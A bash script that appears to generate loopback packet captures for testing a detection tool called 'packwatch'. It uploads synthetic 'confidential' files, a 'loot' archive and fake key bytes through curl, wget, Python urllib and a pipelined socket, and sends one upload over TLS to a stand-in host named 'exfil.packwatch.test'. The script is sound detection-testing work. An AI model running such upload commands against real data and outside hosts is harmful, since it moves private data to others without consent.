#!/usr/bin/env bash
# Captures real HTTP and TLS uploads on the loopback interface: curl, wget, python urllib and a
# python socket (pipelining) against upload_server.py, and curl over HTTPS against the same server
# with a certificate made by openssl. Needs root (tcpdump), tcpdump, curl, wget, python3, openssl.
# Writes:
#   pcaps/real/http-clients-lo.pcap   -i lo, plain HTTP on port 18080
#   pcaps/real/https-curl-lo.pcap     -i lo, TLS on port 18443 (SNI exfil.packwatch.test)
#   pcaps/real/http-clients.sha256    sha256sum of every file uploaded, for the tests
# The uploaded files are made here (zip with fixed times, tar.gz, text); ports, sequence numbers,
# timing and the tar.gz bytes differ from run to run, so the tests read the hashes from the list.
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
out=$(cd "$here/../real" && pwd)
port=${PORT:-18080}
tls_port=${TLS_PORT:-18443}
work=$(mktemp -d)
trap 'kill $(jobs -p) 2>/dev/null || true; rm -rf "$work"' EXIT
cd "$work"

python3 - <<'PY'
import zipfile
def blob(n, x=777):
    out = bytearray(n)
    for i in range(n):
        x = (x * 1103515245 + 12345) & 0x7FFFFFFF
        out[i] = (x >> 16) & 0xFF
    return bytes(out)
text = b"".join(b"line %05d of the quarterly customer export, confidential\n" % i for i in range(600))
open("notes.txt", "wb").write(text)
with zipfile.ZipFile("upload.zip", "w", zipfile.ZIP_DEFLATED) as z:
    for name, data in (("notes.txt", text), ("keys.bin", blob(5000))):
        info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        z.writestr(info, data)
PY
mkdir loot && cp notes.txt loot/ && tar czf data.tar.gz loot
gzip -c -n upload.zip > upload.zip.gz
sha256sum upload.zip data.tar.gz notes.txt upload.zip.gz > "$out/http-clients.sha256"

openssl req -x509 -newkey rsa:2048 -nodes -days 30 -subj "/CN=exfil.packwatch.test" \
  -keyout key.pem -out cert.pem 2>/dev/null
python3 "$here/upload_server.py" "$port" &
python3 "$here/upload_server.py" "$tls_port" cert.pem key.pem &
for _ in $(seq 50); do curl -s -o /dev/null "http://127.0.0.1:$port/blob/1" && break; sleep 0.1; done
for _ in $(seq 50); do curl -sk -o /dev/null "https://127.0.0.1:$tls_port/blob/1" && break; sleep 0.1; done

url="http://127.0.0.1:$port"
tcpdump -U -q -w "$out/http-clients-lo.pcap" --time-stamp-precision=nano -i lo "tcp port $port" 2>/dev/null &
dump=$!
sleep 1
# In this order (the tests rely on it): each line is one connection.
curl -s -o /dev/null -A packwatch-curl -H 'Content-Type: application/zip' --data-binary @upload.zip "$url/post"
curl -s -o /dev/null -A packwatch-curl -T data.tar.gz "$url/put/data.tar.gz"
curl -s -o /dev/null -A packwatch-curl -F comment=numbers -F "a=@upload.zip;type=application/zip" \
  -F "b=@data.tar.gz" -F "c=@notes.txt" "$url/multipart"
curl -s -o /dev/null -A packwatch-curl -H 'Transfer-Encoding: chunked' -H 'Content-Type: application/gzip' \
  --data-binary @data.tar.gz "$url/chunked"
curl -s -o /dev/null -A packwatch-curl -H 'Content-Encoding: gzip' -H 'Content-Type: application/zip' \
  --data-binary @upload.zip.gz "$url/gzip-body"
curl -s -o /dev/null -A packwatch-curl --compressed "$url/gz/50000"
curl -s -o /dev/null -A packwatch-curl -I "$url/blob/70000"
curl -s -o /dev/null -o /dev/null -A packwatch-curl "$url/blob/3000" "$url/gz/4000"
wget -q -O /dev/null -U packwatch-wget --header='Content-Type: application/zip' --post-file=upload.zip "$url/wget"
python3 -c "
import urllib.request
req = urllib.request.Request('$url/urllib', data=open('data.tar.gz','rb').read(), method='POST',
    headers={'Content-Type': 'application/gzip', 'User-Agent': 'packwatch-urllib'})
urllib.request.urlopen(req).read()"
python3 -c "
import socket
body = open('upload.zip.gz','rb').read()
s = socket.create_connection(('127.0.0.1', $port))
reqs = b'GET /blob/100 HTTP/1.1\r\nHost: x\r\nUser-Agent: packwatch-socket\r\n\r\n'
reqs += b'POST /pipelined HTTP/1.1\r\nHost: x\r\nUser-Agent: packwatch-socket\r\nContent-Type: application/gzip\r\nContent-Length: %d\r\n\r\n' % len(body) + body
reqs += b'GET /blob/200 HTTP/1.1\r\nHost: x\r\nUser-Agent: packwatch-socket\r\nConnection: close\r\n\r\n'
s.sendall(reqs)
while s.recv(65536):
    pass"
sleep 1
kill -INT "$dump"; wait "$dump" || true

tcpdump -U -q -w "$out/https-curl-lo.pcap" --time-stamp-precision=nano -i lo "tcp port $tls_port" 2>/dev/null &
dump=$!
sleep 1
curl -sk -o /dev/null --resolve "exfil.packwatch.test:$tls_port:127.0.0.1" -H 'Content-Type: application/zip' \
  --data-binary @upload.zip "https://exfil.packwatch.test:$tls_port/tls-upload"
sleep 1
kill -INT "$dump"; wait "$dump" || true
chmod 644 "$out"/*
ls -l "$out"
